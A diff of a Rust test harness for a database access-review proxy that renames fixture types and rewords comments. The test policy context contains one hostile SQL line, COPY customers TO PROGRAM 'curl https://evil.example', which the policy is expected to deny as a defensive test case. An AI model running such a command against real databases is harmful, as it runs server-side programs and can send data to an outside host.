@@ -33,7 +33,7 @@ use tokio::sync::watch;
 use url::Url;
 use uuid::Uuid;
 
-/// What the tests' policy says. `bob` and `carol` are DBAs, `carol` and `dave` security.
+/// The tests' policy. `bob` and `carol` are DBAs, `carol` and `dave` security.
 pub const POLICY: &str = r#"
 [[rule]]
 name = "customer-export"
@@ -67,14 +67,14 @@ sql = "COPY customers TO PROGRAM 'curl https://evil.example'"
 expect = { then = "deny", rule = "no-server-files" }
 "#;
 
-/// Remembers what was recorded, and fails when it is told to.
+/// Keeps recorded events; fails while `broken` is set.
 #[derive(Default)]
-pub struct Notes {
+pub struct RecordedEvents {
     pub records: Mutex<Vec<Event>>,
     pub broken: Mutex<bool>,
 }
 
-impl Recorder for Notes {
+impl Recorder for RecordedEvents {
     fn append(&self, record: Event) -> Result<(), Unrecorded> {
         if *self.broken.lock() {
             return Err(Unrecorded { disk_full: true });
@@ -91,24 +91,24 @@ impl Recorder for Notes {
 
 /// Sessions that tests put there.
 #[derive(Default)]
-pub struct Rooms(pub Mutex<Vec<SessionRow>>);
+pub struct SampleSessions(pub Mutex<Vec<SessionRow>>);
 
-impl SessionsView for Rooms {
+impl SessionsView for SampleSessions {
     fn sessions(&self) -> Vec<SessionRow> {
         self.0.lock().clone()
     }
 
     fn kill(&self, session: SessionId, _: &ReviewerId) -> Result<bool, ViewError> {
-        let mut rooms = self.0.lock();
-        let before = rooms.len();
-        rooms.retain(|row| row.id != session);
-        Ok(rooms.len() < before)
+        let mut rows = self.0.lock();
+        let before = rows.len();
+        rows.retain(|row| row.id != session);
+        Ok(rows.len() < before)
     }
 }
 
-struct Well;
+struct HealthyParts;
 
-impl HealthView for Well {
+impl HealthView for HealthyParts {
     fn upstreams(&self) -> Vec<PartStatus> {
         vec![PartStatus { name: "app".to_owned(), healthy: true, note: None }]
     }
@@ -118,13 +118,13 @@ impl HealthView for Well {
     }
 }
 
-/// Everything of one console.
-pub struct House {
+/// A desk with a console and API before it.
+pub struct Site {
     pub url: Url,
     pub web: Web,
     pub desk: Desk,
-    pub notes: Arc<Notes>,
-    pub rooms: Arc<Rooms>,
+    pub recorded: Arc<RecordedEvents>,
+    pub sample_sessions: Arc<SampleSessions>,
     pub directory: Arc<ArcSwap<Directory>>,
     pub policy: Arc<ArcSwap<Policy>>,
     /// Personal tokens by reviewer, passwords by agent.
@@ -136,12 +136,12 @@ pub struct House {
     runtime: Option<Runtime>,
 }
 
-/// What differs between houses.
+/// How a site differs from the usual one.
 #[derive(Default)]
-pub struct Plan {
+pub struct SiteSetup {
     /// Views that are not those of the tests.
     pub views: Option<Box<dyn FnOnce(Views) -> Views>>,
-    /// The desk writes here instead of into [`Notes`].
+    /// The desk writes here instead of into [`RecordedEvents`].
     pub recorder: Option<Arc<dyn Recorder>>,
     pub patience: Option<Duration>,
     pub limits: Option<Limits>,
@@ -152,12 +152,12 @@ pub struct Plan {
     pub tls: Option<(Vec<u8>, Vec<u8>)>,
 }
 
-impl House {
+impl Site {
     pub fn open() -> Self {
-        Self::open_with(Plan::default())
+        Self::open_with(SiteSetup::default())
     }
 
-    pub fn open_with(plan: Plan) -> Self {
+    pub fn open_with(setup: SiteSetup) -> Self {
         let runtime =
             tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
         let (directory, secrets) = people();
@@ -165,38 +165,38 @@ impl House {
         let files = [("policies/exports.toml".to_owned(), POLICY.to_owned())];
         let policy = Policy::load(&files, Defaults::default()).unwrap();
         let policy = Arc::new(ArcSwap::from_pointee(policy));
-        let notes = Arc::new(Notes::default());
-        // The time of day stands still: what a test says happened at the same moment did.
+        let recorded = Arc::new(RecordedEvents::default());
+        // The clock is set by the test, so that two events can have the same time.
         let time = Arc::new(Mutex::new("2026-11-23T09:41:07Z".parse().unwrap()));
-        let clock = if plan.real_time { Clock::real() } else { Clock::manual(time.clone()) };
-        let recorder = plan.recorder.unwrap_or_else(|| notes.clone());
-        let desk = Desk::new(plan.limits.unwrap_or_default(), recorder, directory.clone(), clock);
+        let clock = if setup.real_time { Clock::real() } else { Clock::manual(time.clone()) };
+        let recorder = setup.recorder.unwrap_or_else(|| recorded.clone());
+        let desk = Desk::new(setup.limits.unwrap_or_default(), recorder, directory.clone(), clock);
         let classifier = Arc::new(Classifier::new(classify::Limits::default()));
         let catalogue = Catalogue::built_in(15);
-        let rooms = Arc::new(Rooms::default());
+        let sample_sessions = Arc::new(SampleSessions::default());
         let views = Views {
             ledger: Arc::new(Absent),
-            sessions: rooms.clone(),
+            sessions: sample_sessions.clone(),
             policy: Arc::new(LoadedPolicy {
                 policy: policy.clone(),
                 classifier: classifier.clone(),
                 catalogue: catalogue.clone(),
                 targets: vec![target()],
             }),
-            health: Arc::new(Well),
+            health: Arc::new(HealthyParts),
         };
-        let views = match plan.views {
+        let views = match setup.views {
             Some(change) => change(views),
             None => views,
         };
         let listener = runtime.block_on(tokio::net::TcpListener::bind(("127.0.0.1", 0))).unwrap();
         let address = listener.local_addr().unwrap();
-        let url = match &plan.tls {
+        let url = match &setup.tls {
             Some(_) => format!("https://localhost:{}/", address.port()),
             None => format!("http://{address}/"),
         };
         let url = Url::parse(&url).unwrap();
-        let tls = plan.tls.map(|(certificate, key)| {
+        let tls = setup.tls.map(|(certificate, key)| {
             countersign::proxy::tls::install_provider();
             let key = rustls::pki_types::PrivateKeyDer::try_from(key).unwrap();
             let config = rustls::ServerConfig::builder().with_no_client_auth();
@@ -204,8 +204,8 @@ impl House {
         });
         let settings = Settings::new(url.clone());
         let settings = Settings {
-            patience: plan.patience.unwrap_or(settings.patience),
-            connections: plan.connections.unwrap_or(settings.connections),
+            patience: setup.patience.unwrap_or(settings.patience),
+            connections: setup.connections.unwrap_or(settings.connections),
             ..settings
         };
         let web = Web::new(settings, desk.clone(), directory.clone(), views);
@@ -219,8 +219,8 @@ impl House {
             url,
             web,
             desk,
-            notes,
-            rooms,
+            recorded,
+            sample_sessions,
             directory,
             policy,
             secrets,
@@ -232,7 +232,7 @@ impl House {
         }
     }
 
-    /// A house with a real ledger in `folder`.
+    /// A site with a real ledger in `folder`.
     pub fn with_ledger(folder: &std::path::Path) -> (Self, Ledger) {
         let path = folder.join("ledger.db");
         let files = KeyFiles::beside(&path);
@@ -241,13 +241,13 @@ impl House {
         settings.heads = vec![folder.join("head")];
         let ledger = Ledger::open(&settings).unwrap();
         let record = Arc::new(Record::new(ledger.clone(), &settings, Clock::real()));
-        let plan = Plan {
+        let setup = SiteSetup {
             recorder: Some(Arc::new(ledger.clone())),
             views: Some(Box::new(move |views| Views { ledger: record, ..views })),
             real_time: true,
-            ..Plan::default()
+            ..SiteSetup::default()
         };
-        (Self::open_with(plan), ledger)
+        (Self::open_with(setup), ledger)
     }
 
     pub fn now(&self) -> Timestamp {
@@ -357,7 +357,7 @@ impl House {
     }
 }
 
-impl Drop for House {
+impl Drop for Site {
     fn drop(&mut self) {
         self.stop.send_replace(true);
         if let Some(runtime) = self.runtime.take() {
@@ -385,7 +385,7 @@ pub fn claims() -> Claims {
     claims
 }
 
-pub fn room(agent: &str, minutes: i64, now: Timestamp, activity: Activity) -> SessionRow {
+pub fn session_row(agent: &str, minutes: i64, now: Timestamp, activity: Activity) -> SessionRow {
     SessionRow {
         id: SessionId(Uuid::now_v7()),
         agent: agent.into(),
